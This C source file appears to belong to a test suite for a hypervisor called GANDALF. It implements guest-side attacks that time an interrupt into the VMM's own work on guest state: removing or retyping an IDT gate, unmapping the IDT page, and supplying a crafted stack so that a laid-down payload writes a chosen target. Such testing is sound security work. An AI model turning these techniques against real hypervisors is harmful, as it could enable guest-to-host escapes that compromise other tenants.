/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks of pc-attack.elf on a dedicated CPU: an interrupt that the VMM lets in at its work for
 * the guest, and cannot deliver. The guest's stack and code are there for a VMM that goes on
 * with what it has half built.
 *
 *	NAME WORK DEPTH ESP TARGET
 *
 * WORK: what the VMM is to work at; DEPTH: that many handlers are suspended at such work already;
 * ESP: of the guest, 0 for that of the payload; TARGET: what the payload writes.
 */
#include "attack.h"

#define GATE_PRESENT 0x8000U
#define GATE_TYPE_MASK 0x1f00U
#define GATE_TASK 0x0500U
#define PAGES 1024
/* Of the VMM: no selector for a guest. */
#define VMM_CODE 0x100
/* Where the IDT is once more, until it is not. */
#define IDT_PAGE 3U

static const uint32_t *given;
static uint32_t depth;
static void (*sabotage)(void);
static uint32_t stack;

static void work(uint32_t number, uint32_t esp)
{
	static uint32_t saved;
	/* What each is done with: EAX, EBX, ECX, EDX. */
	const uint32_t arguments[][4] = {
		{ cr4_read() ^ CR4_PGE, 0, 0, 0 },
		{ GANDALF_HYPERCALL_FLUSH, (uint32_t)page_directory, 0, 0xffffffff },
		{ GANDALF_HYPERCALL_FLUSH, (uint32_t)page_directory, SCRATCH,
		  SCRATCH + PAGES * PAGE_SIZE },
	};
	const uint32_t *a = arguments[number];

	for (uint32_t page = 0; page < PAGES; page += 64)
		(void)*(volatile uint32_t *)(SCRATCH + page * PAGE_SIZE);
	irq_await(1);
	/* STI lets interrupts in behind the next instruction only, and that is the VMM's work. */
	if (number == 0)
		__asm__ volatile("movl %%esp, %0\n\tmovl %1, %%esp\n\tsti\n\tmovl %2, %%cr4\n\t"
				 "cli\n\tmovl %0, %%esp"
				 : "+m"(saved)
				 : "r"(esp), "r"(a[0])
				 : "memory", "cc");
	else
		__asm__ volatile("movl %%esp, %0\n\tmovl %1, %%esp\n\tsti\n\tint %2\n\t"
				 "cli\n\tmovl %0, %%esp"
				 : "+m"(saved)
				 : "S"(esp), "i"(GANDALF_HYPERCALL_VECTOR), "a"(a[0]), "b"(a[1]),
				   "c"(a[2]), "d"(a[3])
				 : "memory", "cc");
}

static uint32_t esp_now(void)
{
	uint32_t esp;

	__asm__ volatile("movl %%esp, %0" : "=r"(esp));
	/* Below what this function and its caller use. */
	return esp - 0x200;
}

static void strike(void)
{
	if (depth-- != 0) {
		work(0, esp_now());
		return;
	}
	sabotage();
	work(given[0], stack);
}

/* In the middle of the VMM's work, and then once more in the middle of that. */
static void tick(struct trap_frame *frame)
{
	port_out(0x20, 0x20);
	if (frame->cs == VMM_CODE)
		strike();
}

static void attack(const uint32_t *arguments, void (*what)(void))
{
	given = arguments;
	depth = arguments[1];
	stack = arguments[2] != 0 ? arguments[2] : (uint32_t)payload + KERNEL_HALF;
	sabotage = what;
	payload_lay(arguments[3]);
	for (uint32_t page = 0; page < PAGES; page++)
		scratch_map(page, scratch_frame[page % 4], PAGE_P | PAGE_W | PAGE_A | PAGE_D);
	vectors_show();
	irq_hook[0] = tick;
	strike();
}

static void nothing(void)
{
}

/* The gate in memory, without LIDT: the CPU's own stays what it was. */
static void gate_remove(void)
{
	idt[VECTOR_IRQ].high &= ~GATE_PRESENT;
}

static void gate_change(void)
{
	idt[VECTOR_IRQ].high = (idt[VECTOR_IRQ].high & ~GATE_TYPE_MASK) | GATE_TASK;
}

static void idt_unmap(void)
{
	scratch_map(IDT_PAGE, NULL, 0);
	invlpg(SCRATCH + IDT_PAGE * PAGE_SIZE);
}

static void attack_gate_absent(const uint32_t *arguments)
{
	attack(arguments, gate_remove);
}

static void attack_gate_task(const uint32_t *arguments)
{
	attack(arguments, gate_change);
}

static void attack_idt_gone(const uint32_t *arguments)
{
	const struct {
		uint16_t limit;
		uint32_t base;
	} __attribute__((packed)) idtr = { sizeof(idt) - 1, SCRATCH + IDT_PAGE * PAGE_SIZE };

	scratch_map(IDT_PAGE, idt, PAGE_P | PAGE_W | PAGE_A | PAGE_D);
	__asm__ volatile("lidt %0" : : "m"(idtr) : "memory");
	attack(arguments, idt_unmap);
}

static void attack_stack(const uint32_t *arguments)
{
	attack(arguments, nothing);
}

const struct attack attacks_upcall[] = {
	{ "gate-absent", attack_gate_absent },
	{ "gate-task", attack_gate_task },
	{ "idt-gone", attack_idt_gone },
	{ "stack", attack_stack },
	{ 0 },
};
